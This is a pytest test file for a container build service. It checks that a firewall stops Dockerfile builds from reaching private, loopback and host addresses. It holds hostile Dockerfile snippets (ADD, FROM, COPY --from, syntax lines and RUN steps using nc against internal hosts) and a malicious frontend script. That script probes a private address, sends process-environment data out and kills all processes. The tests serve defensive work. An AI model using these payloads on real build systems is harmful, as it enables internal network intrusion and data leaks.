"""What a Dockerfile has fetched from where builds must not get: refused, and named, before anything is sent.

The addresses are the tests' own, which `own_host` checks first. Each attack then runs without the rules and gets there,
else it would prove nothing; loopback is each builder's own, so for that one the builder is in the host's network.
"""

from __future__ import annotations

import asyncio
import socket
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from stackyn_server import config
from stackyn_server.domain.failures import FailureCode
from stackyn_server.engine import firewall
from stackyn_server.engine.builder.builder import Builder
from stackyn_server.engine.builder.registry_availability import RegistryAvailability
from stackyn_server.engine.client import Engine
from tests.clean_up import remove_firewall_rules
from tests.engine.builder.own_registry import own_registry
from tests.engine.hostile_builds.attack import Make, run
from tests.engine.own_host import OwnHost, is_git, own_host
from tests.engine.parts import busybox_files, tar

PLACES = ("private", "shared", "link-local", "this machine", "loopback")
IMAGE = "{at}/team/tool:1"
ATTACKS = {
    "ADD": "FROM {base}\nADD http://{at}/ /got\n",
    "ADD after a redirect": "FROM {base}\nADD http://{public}/to-{hex}/x /got\n",
    "ADD of a repository": "FROM {base}\nADD http://{at}/x.git /got\n",
    "ADD of a repository by git's protocol": "FROM {base}\nADD git://{at}/x.git /got\n",
    "ADD of a repository after a redirect": "FROM {base}\nADD http://{public}/to-{hex}/x.git /got\n",
    "FROM": f"FROM {IMAGE}\n",
    "FROM after a redirect": "FROM {public}:80/to-{hex}/tool:1\n",
    "FROM with a token": "FROM {public}:80/token-{hex}/tool:1\n",
    "COPY --from": f"FROM {{base}}\nCOPY --from={IMAGE} /tool /tool\n",
    "mount from": f"FROM {{base}}\nRUN --mount=from={IMAGE},target=/got true\n",
    "syntax": f"# syntax={IMAGE}\nFROM {{base}}\n",
    "RUN": "FROM {base}\nRUN echo GET / | nc -w 3 {spaced} && echo reached\n",
    "RUN with a mount": (
        "FROM {base}\nRUN --mount=type=cache,target=/cache echo GET / | nc -w 3 {spaced} && echo reached\n"
    ),
}
FEW = (
    ("ADD", "link-local"),
    ("ADD", "loopback"),
    ("ADD after a redirect", "private"),
    ("ADD of a repository", "private"),
    ("ADD of a repository after a redirect", "this machine"),
    ("FROM", "this machine"),
    ("FROM after a redirect", "link-local"),
    ("FROM with a token", "private"),
    ("COPY --from", "shared"),
    ("syntax", "private"),
    ("RUN", "this machine"),
)
ALL = [(attack, place) for attack in ATTACKS for place in PLACES if (attack, place) not in FEW]


@dataclass(slots=True)
class Target:
    """Everything that a build must not reach: our own machine's closed addresses, and a port of this one."""

    host: OwnHost
    port: int
    seen_here: list[str] = field(default_factory=list)

    def authority(self, place: str) -> str:
        if place == "this machine":
            return f"{self.host.here}:{self.port}"
        if place == "loopback":
            return f"127.0.0.1:{self.port}"
        return f"{self.host.closed[place]}:80"

    @property
    def contacts(self) -> list[str]:
        """Connections to what is closed; the public address is not."""
        theirs = [line for line in self.host.seen if line.startswith("connection")]
        return [line for line in theirs if str(self.host.public) not in line] + self.seen_here

    def forget(self) -> None:
        self.host.seen.clear()
        self.seen_here.clear()

    def syntax(self, attack: str, place: str) -> str:
        return IMAGE.format(at=self.authority(place)) if attack == "syntax" else ""

    def dockerfile(self, attack: str, place: str, base: str) -> str:
        at = self.authority(place)
        return ATTACKS[attack].format(
            base=base,
            at=at,
            public=self.host.public,
            hex=f"http://{at}/".encode().hex(),
            spaced=at.replace(":", " "),
        )


@pytest.fixture(scope="module")
async def target(engine: Engine) -> AsyncIterator[Target]:
    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        target.seen_here.append(f"connection {writer.get_extra_info('sockname')[0]}")
        if not is_git(await reader.read(4)):
            await reader.readline()
        writer.write(f"HTTP/1.0 200 OK\r\nContent-Length: 32\r\n\r\n{host.word}".encode())
        writer.close()

    async with own_host() as host:
        server = await asyncio.start_server(answer, "0.0.0.0", 0, family=socket.AF_INET)
        async with server:
            target = Target(host, server.sockets[0].getsockname()[1])
            yield target
    await remove_firewall_rules(engine)


@pytest.fixture
def hostile(engine: Engine, build_settings: config.Settings, target: Target) -> Builder:
    """The builder, told that the closed addresses speak plain HTTP: an attack must not fail for want of TLS."""
    plain = [target.authority(place) for place in PLACES]
    plain += [f"{target.host.public}:{port}" for port in (80, 5000)]
    builds = build_settings.builds.model_copy(update={"plain_http_registries": tuple(plain)})
    settings = build_settings.model_copy(update={"builds": builds})
    return Builder(engine, settings, RegistryAvailability(settings))


@pytest.fixture
def without_rules(engine: Engine, monkeypatch: pytest.MonkeyPatch) -> Callable[[], Awaitable[None]]:
    """Take the rules away, and have nobody put them back."""

    async def nothing(*_: object) -> bool:
        return False

    async def open_up() -> None:
        monkeypatch.setattr(firewall, "restrict_builds", nothing)
        await remove_firewall_rules(engine)

    return open_up


@pytest.mark.parametrize(
    ("attack", "place"), [*FEW, *(pytest.param(*pair, marks=pytest.mark.full) for pair in ALL)]
)
async def test_no_instruction_reaches_what_is_private(
    base_image: str,
    hostile: Builder,
    build_request: Make,
    target: Target,
    without_rules: Callable[[], Awaitable[None]],
    attack: str,
    place: str,
) -> None:
    dockerfile = target.dockerfile(attack, place, base_image)
    syntax = target.syntax(attack, place)
    target.forget()

    result = await run(hostile, build_request(syntax=syntax), dockerfile)

    assert target.contacts == []
    assert result.error is not None and result.error.failure.code is FailureCode.BUILD_FAILED
    if not attack.startswith("RUN"):
        assert f"may not reach {target.authority(place).partition(':')[0]}" in result.error.message
    assert target.host.word not in result.output

    await without_rules()
    open_network = {"network": "host"} if place == "loopback" else {}
    opened = await run(hostile, build_request(syntax=syntax, **open_network), dockerfile)
    assert target.contacts, "open: it is reached"
    if attack.startswith("RUN"):
        assert target.host.word in opened.output, "open: what it answers is shown"


async def test_frontend_reaches_no_more_than_a_step(
    base_image: str,
    hostile: Builder,
    build_request: Make,
    target: Target,
    without_rules: Callable[[], Awaitable[None]],
    tmp_path: Path,
) -> None:
    """A frontend is an image that a Dockerfile names; it runs in the builder and tells it what to do."""
    public, private = target.host.public, target.host.private
    script = (
        "exec >/dev/null\n"  # else what it says is taken for an answer, and a wrong one ends it
        f"echo GET /frontend | nc -w 3 {public} 80\n"
        f"echo GET / | nc -w 3 {private} 80\n"
        f"echo GET /$(cat /proc/*/environ /proc/*/cmdline | grep -c [b]uildkitd) | nc -w 3 {public} 80\n"
        "kill -9 -1\n"
    )
    files = {**busybox_files(), "frontend": script.encode()}
    async with own_registry(target.host, tmp_path / "registry", 5000) as registry:
        settings: dict[str, object] = {"Entrypoint": ["/bin/sh", "/frontend"], "Env": ["PATH=/bin"]}
        name = await registry.push("evil/frontend", [await asyncio.to_thread(tar, files)], settings)
        dockerfile = f"# syntax={name}\nFROM {base_image}\n"
        target.forget()

        result = await run(hostile, build_request(syntax=name), dockerfile)

        assert result.error is not None
        asked = [line for line in target.host.seen if line.startswith(f"request {public}")]
        assert asked == [f"request {public} /frontend", f"request {public} /0"], "it ran, and saw no daemon"
        assert target.contacts == []

        await without_rules()
        await run(hostile, build_request(syntax=name), dockerfile)
        assert target.contacts, "open: it reaches the private address"
